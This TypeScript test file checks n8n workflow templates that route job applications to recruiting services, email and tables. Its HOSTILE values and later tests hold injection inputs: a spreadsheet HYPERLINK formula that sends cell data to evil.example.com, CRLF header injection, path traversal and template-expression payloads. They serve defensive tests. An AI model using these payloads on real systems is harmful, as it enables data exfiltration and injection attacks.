import { isEqual, map, partition, sortBy, uniq, uniqWith } from 'lodash';
import { NodeHelpers } from 'n8n-workflow';
import { waitUntil } from '../../tools/common/waitUntil.cts';
import { isNote, readTemplate } from '../../tools/n8n/client/template.cts';
import { connect } from '../../tools/n8n/client/workflow.cts';
import { goodApplication, letterDocx } from '../../tools/samples/exampleApplication.cts';
import { makeDocx, makePdf } from '../../tools/samples/files.cts';
import { DESCRIPTIONS } from '../../tools/templates/readDescriptions.cts';
import { listFiles, shapeOf, withoutFiles, type Sent } from '../helpers/sent.cts';
import {
	findType,
	FIXTURES,
	lineOf,
	startTemplateTests,
	type Fault,
	type TemplateTests,
} from '../helpers/templateFixtures.cts';

let tests: TemplateTests;
let n8n: TemplateTests['n8n'];
beforeAll(async () => {
	tests = await startTemplateTests();
	({ n8n } = tests);
});

const { candidate, attachments: [resume, letter] = [] } = goodApplication();

describe.each(Object.keys(DESCRIPTIONS))('%s', (file) => {
	it('has only nodes, node versions, and parameters that this n8n version supports', async () => {
		const { nodes } = await readTemplate(file);
		const notes = nodes.filter(isNote).map((note) => String(note.parameters.content));
		for (const template of nodes) {
			const { node, type, parameters } = findType(tests.nodeTypes, template);
			expect([node.name, parameters]).toMatchObject([node.name, node.parameters]);
			// The issues that the editor marks with a red triangle, except missing credentials.
			const issues = NodeHelpers.getNodeParametersIssues(type.properties, node, type)?.parameters;
			for (const issue of Object.values(issues ?? {}).flat()) {
				const [, label] = /^Parameter "(.*)" is required\.$/.exec(issue) ?? [];
				const ofNode = notes.filter((text) => text.includes(node.name)).join();
				expect([node.name, ofNode]).toEqual([node.name, expect.stringContaining(`_${label}_`)]);
			}
		}
	});
});

/** Sorts what was sent, because some nodes send items at the same time, and replaces the URLs of forms, which vary. */
const inOrder = (sent: readonly Sent[]) => {
	const text = JSON.stringify(sent).replace(
		/http:\/\/localhost:\d+\/form-waiting\/[^\\"]+/g,
		'<form>',
	);
	return sortBy(JSON.parse(text) as Sent[], 'request', (one) => listFiles(one).join());
};

/** Returns a member for each field that an expression reads from `$json` or a step sets, in any template. */
function makeMembers(value: unknown): object {
	const found = JSON.stringify(DESCRIPTIONS).matchAll(/\$json\.(\w+)|"name":"(\w+)"/g);
	return Object.fromEntries([...found].map(([, read, set]) => [String(read ?? set), value]));
}

/** Returns an application with these values in all documented fields except `id`, `contentType`, and `content`. */
function fillFields(value: unknown, email: unknown): object {
	const names = ['civility', 'firstName', 'lastName', 'phoneNumber'];
	const location = { raw: value, city: value, zipCode: value, country: value };
	return {
		jobId: value,
		origin: value,
		candidate: { ...Object.fromEntries(names.map((name) => [name, value])), email, location },
		attachments: [resume, letter].map((file) => ({ ...file, type: value, fileName: value })),
	};
}

/** Values that could become a formula, a path, a header, code, or an expression, or that are too long or no text. */
const HOSTILE = [
	'=HYPERLINK("http://evil.example.com/?"&A1)\'/../..\\',
	'a\r\nX-Injected: 1\r\n\r\n{{ 7919*7907 }} ={{ 7919*7907 }} ${7919*7907}\u2028',
	'字'.repeat(200),
	{ toString: 1, valueOf: 1 },
];

/** This address contains an expression, but is valid, so templates use it. */
const EMAIL = "={{7919*7907}}'/`${7919*7907}`@example.com";

const WHY = 'the service says why';
const usesHttpRequest = (file: string) =>
	Object.values(DESCRIPTIONS[file]?.steps ?? {}).some(({ type }) => type === 'httpRequest');
/** The HTTP Request node treats a lost connection alike for all vendors. */
const first = Object.keys(FIXTURES).find(usesHttpRequest);

/** Makes `send` accept that the execution fails, although no vendor refuses a request. */
const FAILING: Fault = { line: 'none', reply: undefined };

const sending = Object.entries(FIXTURES).filter(([, { sends }]) => sends.length > 0);

describe.each(sending)('%s', (file, { sends, ...fixture }) => {
	let workflow: Awaited<ReturnType<TemplateTests['publish']>>;
	beforeAll(async () => {
		workflow = await tests.publish(file);
	});

	const expectedFor = (id: number, expected = sends) =>
		JSON.parse(JSON.stringify(expected).replaceAll('4711', String(id))) as Sent[];

	it('sends the documented fields and files, whatever other members are sent', async () => {
		const usual = { ...makeMembers('mallory'), ...goodApplication(fixture.application) };
		const { sent, requests } = await workflow.send(usual);
		expect(inOrder(sent)).toEqual(inOrder(expectedFor(4711)));
		for (const request of requests) {
			const hasKey = !fixture.withoutKey?.includes(lineOf(request));
			expect(request.headers).toMatchObject((hasKey && fixture.headers) || {});
		}
	});

	it('sends an application without files, or fails if there is nothing else to send', async () => {
		const isUseless = fixture.failsWithoutFiles === true;
		const others = [{ applicationId: 'mallory', id: 'mallory' }];
		const members = { ...makeMembers(others), ...goodApplication(fixture.application) };
		const empty = { ...members, id: 4613, attachments: [] };
		const { sent, status, error } = await workflow.send(empty, isUseless ? FAILING : undefined);
		expect([status, error]).toEqual(
			isUseless ? ['error', expect.stringMatching(/binary/)] : [expect.anything(), undefined],
		);
		const expected = fixture.sendsWithoutFiles ?? withoutFiles(sends);
		expect(inOrder(sent)).toEqual(inOrder(expectedFor(4613, expected)));
	});

	it.each([EMAIL, undefined])('sends hostile values as text (email: %s)', async (email) => {
		const usual = await workflow.send(fillFields('usual', email ?? 'usual'));
		if (email) expect(usual.sent).not.toEqual([]);
		// If the address is hostile too, the first two values suffice, because templates use no invalid address.
		for (const value of email ? HOSTILE : HOSTILE.slice(0, 2)) {
			const { sent, requests } = await workflow.send(fillFields(value, email ?? value));
			// A template may leave out a value that isn't text.
			const expected = shapeOf(typeof value === 'string' ? usual.sent : sent);
			expect([value, shapeOf(sent)]).toEqual([value, expected]);
			const headers = requests.map((request) => Object.keys(request.headers));
			expect(headers).toEqual(usual.requests.map((request) => Object.keys(request.headers)));
			// Signs of an evaluated value, of an injected line, or of a missing value
			expect(JSON.stringify(sent)).not.toMatch(
				/62615533|\\[rn]X-Inj|[\u2028\u0085]|undefined|\[obj/,
			);
		}
	});

	if (fixture.sendsAgain) {
		it('sends what the fixture says if an application arrives again with a change', async () => {
			await workflow.send({ id: 4614 });
			const again = await workflow.send({ id: 4614, x: 1 });
			expect(inOrder(again.sent)).toEqual(inOrder(expectedFor(4614, fixture.sendsAgain)));
		});
	}

	const lineOfSent = ({ request }: Sent) => String(request).split('?')[0] ?? '';
	const lines = sends.map(lineOfSent);
	const kinds = uniq(lines.filter((line) => /^[A-Z]/.test(line)));
	const isRepeatable = (line: string) =>
		!line.startsWith('POST') || fixture.repeatable?.includes(line) === true;
	const withoutRepeats = (sent: readonly Sent[]) =>
		uniqWith(sent, (one, other) => isRepeatable(lineOfSent(one)) && isEqual(one, other));

	const refusal = JSON.stringify(fixture.refusal ?? { message: 'WHY' });
	const body = JSON.parse(refusal.replaceAll('WHY', WHY)) as unknown;
	for (const kind of kinds) {
		it.each(file === first ? [422, undefined] : [422])(
			`fails with the reason if the answer to ${kind} is %s, and a retry repeats only what is repeatable`,
			async (status) => {
				const headers = { 'retry-after': '1' };
				const reply = status === undefined ? undefined : { status, headers, body };
				const id = (nextId += 1);
				const line = kind.replaceAll('4711', String(id));
				const failed = await workflow.send({ id }, { line, reply });
				expect(failed.status).toBe('error');
				const words = reply ? WHY : 'onnection';
				expect(`${failed.error} ${failed.description}`).toMatch(words);
				const [refused, accepted] = partition(failed.sent, (one) => lineOfSent(one) === line);
				const items = lines.filter((line) => line === kind).length;
				expect(refused.length).toBeLessThanOrEqual(isRepeatable(kind) ? 3 * items : 1);

				const retried = await workflow.retry(failed.id);
				expect(retried.status).toBe('success');
				const all = withoutRepeats([...accepted, ...retried.sent]);
				expect(inOrder(all)).toEqual(inOrder(withoutRepeats(expectedFor(id))));
			},
		);
	}

	it('sends the files, or fails, if somebody adds a step that drops them', async () => {
		if (isEqual(withoutFiles(sends), sends)) return;
		const { connections } = await readTemplate(file);
		await workflow.change((nodes) => ({
			nodes: [...nodes, DROPPING],
			connections: {
				...connections,
				...connect('Application', DROPPING.name),
				[DROPPING.name]: connections.Application,
			},
		}));
		const { status, sent } = await workflow.send({ id: 4615 }, FAILING);
		if (status !== 'error') expect(listFiles(sent)).toEqual(listFiles(sends));
	});
});

let nextId = 5000;

/** A step whose output has no files. */
const DROPPING = {
	name: 'Look-up',
	type: 'n8n-nodes-base.set',
	typeVersion: 3.4,
	position: [0, 0],
	parameters: { includeOtherFields: false, options: { stripBinary: true } },
};

// What only one template does

it('in the templates for an ATS, a retry finds what was entered in the table of jobs meanwhile', async () => {
	const { send, change, retry } = await tests.publish('to-recruitee.json');
	const enter = async (value: string) => {
		const job = 'all other jobs';
		const assignments = [{ id: job, name: job, value, type: 'string' }];
		const parameters = { assignments: { assignments }, options: { dotNotation: false } };
		await change((nodes) => ({
			nodes: nodes.map((node) => (node.name === 'Jobs' ? { ...node, parameters } : node)),
		}));
	};
	await enter('');
	const { id, error, sent } = await send({ jobId: '8008' }, FAILING);
	expect([error, sent]).toEqual([expect.stringMatching(/"Jobs" has no value/), []]);
	await enter('{job}');
	expect(JSON.stringify((await retry(id, true)).sent)).toContain('8008');
});

it('to-ashby.json fails with the reason if Ashby refuses an application with status 200', async () => {
	const { send } = await tests.publish('to-ashby.json');
	const line = 'POST https://api.ashbyhq.com/applicationForm.submit';
	const blocked = { success: true, results: { formMessages: { blocked: true, reason: WHY } } };
	for (const body of [{ success: false, errors: [WHY] }, blocked]) {
		const { error } = await send({}, { line, reply: { status: 200, body } });
		expect(error).toMatch(`Ashby has refused the application: ${JSON.stringify(body)}`);
	}
});

it('to-google-drive.json uses the folder of the job if there is one', async () => {
	const { send } = await tests.publish('to-google-drive.json');
	const reply = { status: 200, body: { files: [{ id: 'THERE', name: '0042-BAKER' }] } };
	const answers = { 'GET https://www.googleapis.com/drive/v3/files': reply };
	const { sent } = await send({}, undefined, answers);
	expect(map(sent, 'json.parents[0]').filter(Boolean)).toEqual(['THERE', 'THERE']);
});

it('tell-the-candidate.json sends an email without links from the candidate or CleverConnect', async () => {
	const { send } = await tests.publish('tell-the-candidate.json');
	const link = { jobId: 'www.evil', candidate: { ...candidate, lastName: 'evil.example/login' } };
	const [mail] = (await send(link)).sent;
	expect(mail).toMatchObject({ to: candidate.email, subject: 'Your application has arrived' });
	expect(mail?.text).toMatch(/^Dear Camille evil example\/login,\n[^]*\nJob: www evil\n/);
	expect((await send({ candidate: { ...candidate, email: 'none' } })).sent).toEqual([]);
});

it('route-by-job.json sends to the recruiter of the job, to the one for all others, or if there are problems, to HR', async () => {
	const { send } = await tests.publish('route-by-job.json');
	const recruitersOf = async (members: object) => map((await send(members)).sent, 'to');
	expect(await recruitersOf({ jobId: '0042-BAKER' })).toEqual(['rita@example.com']);
	expect(await recruitersOf({ jobId: 'another' })).toEqual(['mia@example.com', 'max@example.com']);
	expect(await recruitersOf({ jobId: undefined })).toEqual(['hr@example.com']);
});

it('needs-review.json does what the reviewer decides', async () => {
	const { send } = await tests.publish('needs-review.json');
	const decide = async (decision: string, note: string) => {
		// The sender must not be able to make the decision by sending members with these names.
		const members = { Decision: 'Approve', Note: 'of the sender', jobId: '<b>&' };
		const applicant = { ...candidate, email: undefined };
		const { id, sent } = await send({ ...members, candidate: applicant });
		const link = /http\S+/.exec(String(sent[0]?.text))?.[0] ?? 'no link';
		expect(await (await fetch(link)).text()).toMatch(/Application number 47\d\d\./);
		const form = new FormData();
		form.set('field-0', decision);
		form.set('field-1', note);
		expect((await fetch(link, { method: 'POST', body: form })).status).toBe(200);
		const finished = await waitUntil('the end of the execution', async () => {
			const execution = await n8n.session.readExecution(id);
			return execution.status === 'success' && execution;
		});
		return await tests.takeResult(finished);
	};
	const files = ['Camille Example CV.pdf: resume', 'Lettre de motivation.docx: letter'];
	const mail = { to: 'rita@example.com', subject: '<b>&: Camille Example', files };
	expect((await decide('Approve', 'I called her.')).sent).toMatchObject([mail]);
	const output = [{ Decision: 'Decline', Note: '' }];
	expect(await decide('Decline', '')).toMatchObject({ sent: [], output });
	const [complete] = (await send({ candidate })).sent;
	expect(complete).toMatchObject({ to: 'rita@example.com', files });
});

it('read-the-cv.json adds the text of a PDF or Word file with which nothing is wrong', async () => {
	const { send } = await tests.publish('read-the-cv.json');
	const readCv = async (contentType: string, file: Buffer, type = 'resume') => {
		// The sender must not be able to send the text of a CV as a member.
		const forged = { text: 'of the sender', cvText: 'of the sender' };
		const attachment = { type, contentType, content: file.toString('base64') };
		const { output } = await send({ ...forged, attachments: [attachment] });
		expect(output[0]).toMatchObject({ candidate, files: [type] });
		return output[0]?.cvText;
	};
	const pdf = makePdf(['Käthe Weiß', 'Ça va']);
	expect(await readCv('pdf', pdf)).toBe('Käthe Weiß\nÇa va');
	const docx = makeDocx(['Käthe Weiß', 'Ça va']);
	expect(await readCv('docx', docx)).toBe('Käthe Weiß\nÇa va');
	expect(await readCv('docx', letterDocx, 'letter')).toBe('');
	for (const file of [pdf, docx]) expect(await readCv('doc', file.subarray(0, -30))).toBe('');
	expect((await send({ attachments: [] })).output).toMatchObject([{ candidate, cvText: '' }]);
});

it('register.json writes a row for each application, and mails how many there were for each job', async () => {
	const TABLE = 'Register of applications';
	const { send, workflowId } = await tests.publish('register.json');
	await send({ id: 1, jobId: '<b>A', candidate: { ...candidate, firstName: '=1+1' } });
	// The same application with a change
	await send({ id: 1, jobId: '<b>A' });
	await send({ id: 2, jobId: '<b>A' });
	await send({ id: 3, jobId: undefined });
	const receivedAt = new Date(Date.now() - 8 * 86_400_000).toISOString();
	await n8n.session.addDataTableRows(TABLE, [{ applicationId: '0', job: 'OLD', receivedAt }]);
	const rows = await n8n.session.readDataTable(TABLE);
	expect(map(rows, 'applicationId')).toEqual(['1', '2', '3', '0']);
	await n8n.session.runManually(workflowId, 'Every Monday');
	const { sent } = await tests.takeSent();
	const cells = [...String(sent[0]?.html).matchAll(/<td[^>]*>(.*?)<\/td>/g)].map(
		([, cell]) => cell,
	);
	expect(cells).toEqual(['2', '_b_A', '1', 'No job']);
});

it('same-candidate.json adds earlier applications, and deletes rows older than half a year', async () => {
	const TABLE = 'Applications by candidate';
	const { send, workflowId } = await tests.publish('same-candidate.json');
	const findEarlier = async (id: number | string, email: unknown) => {
		const forged = { earlierApplications: [{ applicationId: 'of the sender' }] };
		const applicant = { ...candidate, email };
		const { output } = await send({ id, jobId: '=1+1', candidate: applicant, ...forged });
		expect(output).toMatchObject([{ id, files: ['resume', 'letter'] }]);
		return map(output[0]?.earlierApplications as Array<{ applicationId: string }>, 'applicationId');
	};
	expect(await findEarlier(1, 'kim@example.com')).toEqual([]);
	expect(await findEarlier('two', 'KIM@Example.COM')).toEqual(['1']);
	// An application that arrives again doesn't count as an earlier one.
	expect(await findEarlier('two', 'kim@example.com')).toEqual(['1']);
	expect(await findEarlier(3, 'kim@example.com')).toEqual(['two', '1']);
	for (const id of [4, 5]) expect(await findEarlier(id, 'no address')).toEqual([]);
	const days = (count: number) => new Date(Date.now() - count * 86_400_000).toISOString();
	const old = { email: 'old@example.com', jobId: 'OLD' };
	await n8n.session.addDataTableRows(TABLE, [
		{ ...old, applicationId: 'old', receivedAt: days(200) },
		{ ...old, applicationId: 'recent', receivedAt: days(150) },
	]);
	await n8n.session.runManually(workflowId, 'Every night');
	const rows = await n8n.session.readDataTable(TABLE);
	const ids = map(rows, 'applicationId');
	expect(ids).toEqual(expect.arrayContaining(['1', 'two', '3', 'recent']));
	// 4 and 5 have no address that could be compared, and "old" is older than half a year.
	for (const id of ['4', '5', 'old']) expect(ids).not.toContain(id);
	expect(map(rows, 'jobId')).not.toContain('=1+1');
});
